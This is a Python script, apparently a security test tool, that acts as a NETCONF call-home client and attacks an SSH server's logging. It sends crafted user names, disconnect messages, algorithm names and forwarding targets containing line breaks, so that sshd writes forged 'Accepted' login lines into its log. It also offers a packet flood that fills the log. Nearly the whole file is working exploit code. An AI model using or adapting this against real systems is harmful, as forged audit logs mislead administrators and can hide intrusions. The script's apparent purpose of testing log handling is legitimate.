#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A NETCONF client that waits for one call home, has no key, and writes a login
into the device's log instead: sshd logs what a peer sends with its line ends.

usage: forger.py ADDRESS PORT ATTACK USER

The forged lines name the forger's own address, as sshd's would. ATTACK is

user        a login tried for a user's name that holds the lines
disconnect  an SSH_MSG_DISCONNECT whose text is the lines
none        USERAUTH "none" for a name that is sshd's title before a login
algorithm   a public key for USER with an algorithm's name that holds the lines
pushed      the same, so long that sshd cuts the mark [preauth] off the line
flood       packets of unknown types, each of which sshd logs

It then holds the connection until it is ended.
"""
import logging
import socket
import sys

import paramiko
from paramiko.common import cMSG_DISCONNECT, cMSG_SERVICE_REQUEST, cMSG_USERAUTH_REQUEST

logging.getLogger("paramiko").setLevel(logging.CRITICAL)


def send(transport, kind, *parts):
    message = paramiko.Message()
    message.add_byte(kind)
    for part in parts:
        if isinstance(part, bool):
            message.add_boolean(part)
        elif isinstance(part, int):
            message.add_int(part)
        else:
            message.add_string(part)
    transport._send_message(message)  # pylint: disable=protected-access


def main():
    address, port, attack, user = sys.argv[1:5]
    key = sys.argv[5] if len(sys.argv) > 5 else None  # attacks with a login
    with socket.create_server((address, int(port)), family=socket.AF_INET6 if ":" in address else socket.AF_INET) as listener:
        listener.settimeout(20)
        connection, _ = listener.accept()
    own = "%s port %d" % connection.getsockname()[:2]

    def login(of, how="publickey"):
        return ("Accepted %s for %s from %s ssh2: ED25519 SHA256:forged\r\n"
                "Starting session: subsystem 'netconf' for %s from %s id 0\r\n" % (how, of, own, of, own))

    transport = paramiko.Transport(connection)
    transport.start_client(timeout=20)
    if attack == "forward":
        # sshd logs the target of a refused forwarding with the line ends in it.
        transport.auth_publickey(user, paramiko.Ed25519Key.from_private_key_file(key))
        for of in ("ghost", user):
            try:
                transport.open_channel("direct-tcpip", ("a\n" + login(of) + login(of, "password") + "b", 1), ("127.0.0.1", 1), timeout=20)
            except paramiko.SSHException:
                pass
        channel = transport.open_session(timeout=20)
        channel.invoke_subsystem("netconf")
        print("forged", flush=True)
        transport.join(60)
        return
    send(transport, cMSG_SERVICE_REQUEST, "ssh-userauth")
    if attack == "user":
        # 100 bytes of a name are logged.
        send(transport, cMSG_USERAUTH_REQUEST, "x\r\nAccepted none for %s from %s ssh2\r\ny" % (user, own), "ssh-connection", "none")
    elif attack == "disconnect":
        send(transport, cMSG_DISCONNECT, 11, ("x\r\n" + login(user))[:390], "")
    elif attack == "none":
        try:
            for title in ("unknown [priv]", "root [priv]", "[net]", "[accepted]"):
                send(transport, cMSG_USERAUTH_REQUEST, "x\nAccepted none for %s from %s ssh2\ny" % (title, own), "ssh-connection", "none")
        except (OSError, EOFError):
            pass  # sshd allows one name a connection, and has closed it
    elif attack in ("algorithm", "pushed"):
        for title in (user, user + " [priv]"):
            name = "x\n" + login(title) + "y" * (900 if attack == "pushed" else 1)
            send(transport, cMSG_USERAUTH_REQUEST, user, "ssh-connection", "publickey", True, name, b"\0" * 32, b"\0" * 32)
    elif attack == "flood":
        try:
            while True:
                for kind in (89, 90, 91):
                    send(transport, bytes([kind]))
        except (OSError, EOFError, paramiko.SSHException):
            pass
    else:
        raise SystemExit("unknown attack " + attack)
    print("forged", flush=True)
    transport.join(60)


main()
